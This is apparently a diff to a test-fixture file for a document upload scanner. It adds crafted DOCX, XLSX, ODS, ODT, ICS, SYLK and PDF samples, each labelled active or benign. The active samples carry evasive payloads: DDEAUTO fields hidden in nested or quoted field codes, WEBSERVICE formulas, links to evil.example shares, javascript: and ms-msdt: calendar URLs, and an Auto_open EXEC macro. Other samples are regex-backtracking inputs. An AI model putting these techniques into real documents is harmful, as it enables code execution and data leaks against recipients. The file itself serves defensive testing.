@@ -121,6 +121,14 @@ def fields(*codes: str) -> bytes:
     return docx({"word/document.xml": text})
 
 
+def nested(before: str, within: str, shown: str, after: str) -> bytes:
+    """A DOCX with a field in whose code there is another, which shows a text."""
+    begin, shows, end = (f'<fldChar fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
+    inner = f"{begin}<instrText>{within}</instrText>{shows}<r><t>{shown}</t></r>{end}"
+    code = f"<instrText>{before}</instrText>{inner}<instrText>{after}</instrText>"
+    return docx({"word/document.xml": f"<w><p>{begin}{code}{shows}<t>x</t>{end}</p></w>"})
+
+
 def repeated(piece: bytes, times: int, between: tuple[bytes, bytes] = (b"", b"")) -> bytes:
     """A piece again and again, packed (zlib)."""
     packer = zlib.compressobj(9)
@@ -193,6 +201,21 @@ def threading(document: pikepdf.Pdf, **there: str) -> None:
     action = pikepdf.Dictionary(S=pikepdf.Name.Thread, D=0, **there)
     link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
     document.pages[0].obj.Annots = pikepdf.Array([link])
+
+
+def solid(document: pikepdf.Pdf) -> None:
+    """A body of three dimensions, with a program that runs as it is shown."""
+    body = document.make_stream(b"U3D", Subtype=pikepdf.Name.U3D, OnInstantiate=document.make_stream(b"x"))
+    note = pikepdf.Dictionary({"/Subtype": pikepdf.Name("/3D"), "/Rect": pikepdf.Array([0, 0, 9, 9]), "/3DD": body})
+    document.pages[0].obj.Annots = pikepdf.Array([note])
+
+
+def of_the_web(document: pikepdf.Pdf) -> None:
+    document.Root.X = document.make_indirect(pikepdf.Dictionary(FS=pikepdf.Name.URL, F="http://evil.example/x"))
+
+
+def calendar(*lines: str) -> bytes:
+    return "\r\n".join(("BEGIN:VCALENDAR", *lines, "END:VCALENDAR", "")).encode()
 
 
 def collected(document: pikepdf.Pdf) -> None:
@@ -270,6 +293,33 @@ def book(formula: str) -> bytes:
     return packed(dict(parts))
 
 
+def sheet(text: str) -> bytes:
+    parts = {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/worksheets/sheet1.xml": f"<x>{text}</x>"}
+    return packed(dict(parts))
+
+
+def table(text: str) -> bytes:
+    return odt("application/vnd.oasis.opendocument.spreadsheet", **{"a.xml": f"<x>{text}</x>"})
+
+
+def typed(declared: str, part: str) -> bytes:
+    """A DOCX with a part that runs, and what its kind is told to be."""
+    run = '<w><fldSimple instr="DDEAUTO c:"/></w>'
+    return docx({"[Content_Types].xml": TYPES.replace("</Types>", f"{declared}</Types>"), part: run})
+
+
+def vml(text: str) -> bytes:
+    return docx({"word/document.xml": f'<w xmlns:o="urn:o" xmlns:n="urn:n">{text}</w>'})
+
+
+def related(kind: str, to: str) -> bytes:
+    """A DOCX with a relationship that doesn't say that it leads out."""
+    return docx({"word/_rels/a.rels": RELATION.format(type=kind, to=to).replace(' TargetMode="External"', "")})
+
+
+HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+WEB = 'WEBSERVICE("http://e.example")'
+WEB_Q = "WEBSERVICE(&quot;http://e.example&quot;)"
 ASKING = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
 HTML = b"<!doctype html><script>__ran(1)</script>"
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='__ran(1)'/>"
@@ -686,6 +736,7 @@ PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
     ),
     "ZIP with a program named GIF": ("a.zip", lambda: packed({"a.gif": b"MZ\x90\0"}), CONTENTS),
     "ZIP with a program named MP4": ("a.zip", lambda: packed({"a.mp4": b"MZ\x90\0"}), CONTENTS),
+    "ZIP with a program named HEIC": ("a.zip", lambda: packed({"a.heic": b"MZ\x90\0"}), CONTENTS),
     "ZIP with a page named MP3": ("a.zip", lambda: packed({"a.mp3": HTML}), CONTENTS),
     "ZIP with a page named WebP": ("a.zip", lambda: packed({"a.webp": HTML}), CONTENTS),
     "ZIP with a page named Markdown": ("a.zip", lambda: packed({"a.md": HTML}), CONTENTS),
@@ -751,4 +802,245 @@ PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
     ),
     "CSV with long fractions after a comma": ("a.csv", lambda: f"a;b\n0,{NIK};1\n".encode(), ""),
     "CSV of long numbers (time)": ("a.csv", lambda: b"1763712000000000,2026-01-01 2026 2026 2026\n" * 500_000, ""),
+    "DOCX with a field of spaces (backtracking)": ("a.docx", lambda: fields(" " * 200_000 + "x"), ""),
+    "DOCX with simple fields of spaces (backtracking)": (
+        "a.docx",
+        lambda: docx({"word/document.xml": "<w>" + f'<fldSimple instr="{" " * 20_000}x"/>' * 20 + "</w>"}),
+        "",
+    ),
+    "DOCX with links of spaces (backtracking)": (
+        "a.docx",
+        lambda: fields(" " * 100_000 + "\\" + " " * 100_000 + "HYPERLIN"),
+        "",
+    ),
+    "DOCX with a field within another, again and again (time)": (
+        "a.docx",
+        lambda: docx({"word/a.xml": "<w>" + '<fldChar fldCharType="begin"/><t>IF </t>' * 200_000 + "</w>"}),
+        "",
+    ),
+    "DOCX with a field whose kind another says": ("a.docx", lambda: nested("", "SET x", "DDEAUTO", " c:\\x"), ACTIVE),
+    "DOCX with a field whose kind another looks up": ("a.docx", lambda: nested(" ", "REF x", "", " c:\\x"), ACTIVE),
+    "DOCX with a field whose kind another ends": ("a.docx", lambda: nested(" dd", "REF x", "", " c:\\x"), ACTIVE),
+    "DOCX with a field whose code is text": (
+        "a.docx",
+        lambda: docx({"word/document.xml": '<w><fldChar fldCharType="begin"/><t>DDEAUTO</t><r><tab/></r><t>c</t></w>'}),
+        ACTIVE,
+    ),
+    "DOCX with a field whose code is in quotes": (
+        "a.docx",
+        lambda: fields('"INCLUDEPICTURE" "http://e.example"'),
+        ACTIVE,
+    ),
+    "DOCX with a field within a choice": ("a.docx", lambda: fields('IF 1 = 1 "DDEAUTO x"'), ACTIVE),
+    "DOCX with a button for a macro": ("a.docx", lambda: fields("MACROBUTTON x y"), ACTIVE),
+    "DOCX with plain fields within another": ("a.docx", lambda: nested("IF ", "PAGE", "1", ' = 1 "a" "b"'), ""),
+    "DOCX with a sum of fields": ("a.docx", lambda: nested("=", "PAGE", "1", " - 1"), ""),
+    "DOCX with a keyword": ("a.docx", lambda: fields(' XE "Database" '), ""),
+    "DOCX with a text about fields": ("a.docx", lambda: docx({"word/document.xml": "<w><t>DDEAUTO c:</t></w>"}), ""),
+    "DOCX with a field that shows such a text": (
+        "a.docx",
+        lambda: docx(
+            {
+                "word/document.xml": '<w><fldChar fldCharType="begin"/><instrText>PAGE</instrText>'
+                '<fldChar fldCharType="separate"/><t>DDE LINK</t><fldChar fldCharType="end"/></w>'
+            }
+        ),
+        "",
+    ),
+    "DOCX with a header named TXT": (
+        "a.docx",
+        lambda: typed(f'<Override PartName="/word/header1.txt" ContentType="{HEADER}"/>', "word/header1.txt"),
+        ACTIVE,
+    ),
+    "DOCX with headers named PNG": (
+        "a.docx",
+        lambda: typed(f'<Default Extension="png" ContentType="{HEADER.upper()} ; a=b"/>', "word/header1.png"),
+        ACTIVE,
+    ),
+    "DOCX whose text is related to as another kind": ("a.docx", lambda: related("officeDocument", "main.txt"), ACTIVE),
+    "DOCX with parts as they are declared": (
+        "a.docx",
+        lambda: docx(
+            {
+                "[Content_Types].xml": TYPES.replace(
+                    "</Types>",
+                    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+                    '<Default Extension="xml" ContentType="application/xml"/>'
+                    '<Default Extension="png" ContentType="image/png"/>'
+                    f'<Override PartName="/word/header1.xml" ContentType="{HEADER}"/></Types>',
+                ),
+                "word/header1.xml": "<x/>",
+                "word/_rels/document.xml.rels": "<Relationships>"
+                '<Relationship Type="http://a/image" Target="media/a.png"/>'
+                '<Relationship Type="http://a/header" Target="/word/header1.xml"/></Relationships>',
+            }
+        ),
+        "",
+    ),
+    "DOCX with a picture of a share, not said to be outside": (
+        "a.docx",
+        lambda: related("image", "//evil.example/x.png"),
+        ACTIVE,
+    ),
+    "DOCX with a stroke from elsewhere": ("a.docx", lambda: vml('<stroke src="http://e.example/x"/>'), ACTIVE),
+    "DOCX with a border from elsewhere": ("a.docx", lambda: vml('<left src="http://e.example/x"/>'), ACTIVE),
+    "DOCX with a second picture from elsewhere": (
+        "a.docx",
+        lambda: vml('<imagedata o:althref="http://e.example/x"/>'),
+        ACTIVE,
+    ),
+    "DOCX with an address beside the one that is read": (
+        "a.docx",
+        lambda: vml('<imagedata src="http://e.example/x" n:src="a"/>'),
+        ACTIVE,
+    ),
+    "DOCX with a shape that is a link": ("a.docx", lambda: vml('<shape href="https://a.example/" o:title="a"/>'), ""),
+    "XLSX with a quote in a sheet's name": ("a.xlsx", lambda: sheet(f"<f>'a\"'!A1&amp;{WEB}</f>"), ACTIVE),
+    "XLSX with apostrophes in columns' names": (
+        "a.xlsx",
+        lambda: sheet(f"<f>T['#a]&amp;{WEB}&amp;T['#b]</f>"),
+        ACTIVE,
+    ),
+    "XLSX that asks the web in its look": ("a.xlsx", lambda: sheet(f"<formula>{WEB}</formula>"), ACTIVE),
+    "XLSX that asks the web in a column": (
+        "a.xlsx",
+        lambda: sheet(f"<calculatedColumnFormula>{WEB}</calculatedColumnFormula>"),
+        ACTIVE,
+    ),
+    "XLSX that asks the web in a name": ("a.xlsx", lambda: sheet(f"<definedName>{WEB}</definedName>"), ACTIVE),
+    "XLSX with a book of a share": (
+        "a.xlsx",
+        lambda: sheet("<f>'\\\\evil.example\\x\\[a.xlsx]S'!A1</f>"),
+        ACTIVE,
+    ),
+    "XLSX with a book of the web": ("a.xlsx", lambda: sheet("<f>'http://e.example/[a.xlsx]S'!A1</f>"), ACTIVE),
+    "XLSX that asks a database": ("a.xlsx", lambda: sheet('<f>SQL.REQUEST("a")</f>'), ACTIVE),
+    "XLSX with a link behind a quote in a sheet's name": (
+        "a.xlsx",
+        lambda: sheet('<f>\'a"\'!A1&amp;IF(1,HYPERLINK(B1),"file://e.example")</f>'),
+        ACTIVE,
+    ),
+    "XLSX of brackets and quotes (backtracking)": (
+        "a.xlsx",
+        lambda: sheet(
+            f"<f>{'[' * 100_000}</f><f>{'|' * 100_000}//'</f><f>{chr(39) * 99_999}/</f><f>{'[a:/' * 50_000}</f>"
+        ),
+        ACTIVE,
+    ),
+    "XLSX with formulas as people write them": (
+        "a.xlsx",
+        lambda: sheet(
+            "<f>'Jan 2026'!A1/2&amp;\"a/b's DDE(\"</f><f>SUM(T[[#All],[Jumlah/Hari]])/T['# Warga]/T['# KK]</f>"
+            "<formula>$A1&gt;1</formula><definedName>'Data 1:Data 2'!$A$1</definedName><f>[1]S!A1</f>"
+        ),
+        "",
+    ),
+    "ODS with a quote in a sheet's name": (
+        "a.ods",
+        lambda: table(f"<c formula=\"of:=[.$'a&quot;'.A1]&amp;{WEB_Q}\"/>"),
+        ACTIVE,
+    ),
+    "ODS that asks the web in a name": ("a.ods", lambda: table(f'<named-expression expression="{WEB_Q}"/>'), ACTIVE),
+    "ODS that asks the web in a condition": (
+        "a.ods",
+        lambda: table(f'<content-validation condition="of:is-true-formula({WEB_Q})"/>'),
+        ACTIVE,
+    ),
+    "ODS with a book of the web": (
+        "a.ods",
+        lambda: table("<c formula=\"of:=['http://e.example/a.ods'#$S.A1]\"/>"),
+        ACTIVE,
+    ),
+    "ODS of brackets (backtracking)": (
+        "a.ods",
+        lambda: table(
+            "".join(f'<c formula="{each * 50_000}DDE"/>' for each in ("[", "[a:/", "['", "[.$'a'")) + "<c formula='|'/>"
+        ),
+        ACTIVE,
+    ),
+    "ODS with formulas as people write them": (
+        "a.ods",
+        lambda: table(
+            "<c formula=\"of:=SUM([.A1:.B2])/[$'Data 1'.C1]&amp;[.#REF!]&amp;&quot;a/b&quot;\"/>"
+            '<content-validation condition="of:cell-content-is-in-list(&quot;a&quot;;&quot;b/c&quot;)"/>'
+            '<chart href=".."/>'
+        ),
+        "",
+    ),
+    "ODT with a bullet from elsewhere": (
+        "a.odt",
+        lambda: odt(**{"a.xml": '<x><list-level-style-image href="https://e.example/x"/></x>'}),
+        ACTIVE,
+    ),
+    "ODT with a symbol from elsewhere": (
+        "a.odt",
+        lambda: odt(**{"a.xml": '<x><symbol-image href="https://e.example/x"/></x>'}),
+        ACTIVE,
+    ),
+    "ODT with a link that is followed as it loads": (
+        "a.odt",
+        lambda: odt(**{"a.xml": '<x><a href="https://e.example/x" actuate="onLoad"/></x>'}),
+        ACTIVE,
+    ),
+    "ODT with a picture of its own": (
+        "a.odt",
+        lambda: odt(**{"a.xml": '<x><image href="Pictures/a.png" actuate="onLoad" show="embed"/></x>'}),
+        "",
+    ),
+    "ICS with a link to a script": ("a.ics", lambda: calendar("URL:javascript:__ran(1)"), ACTIVE),
+    "ICS with a link to a script, with a tab": ("a.ics", lambda: calendar("URL:java\tscript:__ran(1)"), ACTIVE),
+    "ICS with a link to a share": ("a.ics", lambda: calendar("URL;VALUE=URI:file://evil.example/x"), ACTIVE),
+    "ICS with a link to a share, in backslashes": ("a.ics", lambda: calendar("URL:\\\\evil.example\\x"), ACTIVE),
+    "ICS with a link behind a quote that doesn't end": (
+        "a.ics",
+        lambda: calendar('URL;X="a:file://evil.example/x'),
+        ACTIVE,
+    ),
+    "ICS with a meeting of a program": ("a.ics", lambda: calendar('CONFERENCE;X="a:b":ms-msdt:/id x'), ACTIVE),
+    "ICS with a source of a share": ("a.ics", lambda: calendar("SOURCE;VALUE=URI:file://evil.example/x"), ACTIVE),
+    "ICS with a file in a group": ("a.ics", lambda: calendar("item.ATTACH:file://evil.example/x"), ACTIVE),
+    "ICS with an alarm that sounds": ("a.ics", lambda: calendar("ACTION:AUDIO"), ACTIVE),
+    "ICS with an alarm that sounds what it loads": (
+        "a.ics",
+        lambda: calendar("ACTION:DISPLAY", "ATTACH;VALUE=URI:http://evil.example/x"),
+        ACTIVE,
+    ),
+    "ICS with an alarm that writes": ("a.ics", lambda: calendar("ACTION;X=DISPLAY:EMAIL"), ACTIVE),
+    "ICS with a file behind a line's end of another kind": (
+        "a.ics",
+        lambda: calendar("DESCRIPTION:a\u2028ATTACH:file://evil.example/x"),
+        ACTIVE,
+    ),
+    "ICS with a file behind an empty line, folded": (
+        "a.ics",
+        lambda: calendar("", " ATTACH:file://evil.example/x"),
+        ACTIVE,
+    ),
+    "ICS as programs write it": (
+        "a.ics",
+        lambda: calendar(
+            "SOURCE;VALUE=URI:https://a.example/a.ics",
+            'URL;X="a:b":https://a.example/',
+            "TZURL:http://a.example/",
+            "CONFERENCE;VALUE=URI:tel:+62-341-1",
+            "URL:www.a.example/x",
+            "URL:",
+            "DESCRIPTION:Bawa",
+            "  ATTACH: surat\\, URL:x",
+            "ACTION:DISPLAY",
+            "ACTION:NONE",
+        ),
+        "",
+    ),
+    "ICS of long lines (backtracking)": (
+        "a.ics",
+        lambda: calendar(*(each * 100_000 for each in ("a-", "URL;", 'URL;""', "URL:a,", "a.", "URL: ,", "\t"))),
+        "",
+    ),
+    "SYLK named CSV": ("a.csv", lambda: b'ID;PWXL;N;E\nC;Y1;X1;K0;EWEBSERVICE("http://e.example/")\nE\n', CONTENTS),
+    "SYLK named TXT": ("a.txt", lambda: b'ID;P\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("CALC.EXE")\nE\n', CONTENTS),
+    "MHTML named CSV": ("a.csv", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>", CONTENTS),
+    "CSV with a column that is called so": ("a.csv", lambda: b"ID,Nama\n1,a\n", ""),
+    "PDF with a body that runs a program": ("a.pdf", lambda: pdf(solid), ACTIVE),
+    "PDF with a file of the web": ("a.pdf", lambda: pdf(of_the_web), ACTIVE),
 }
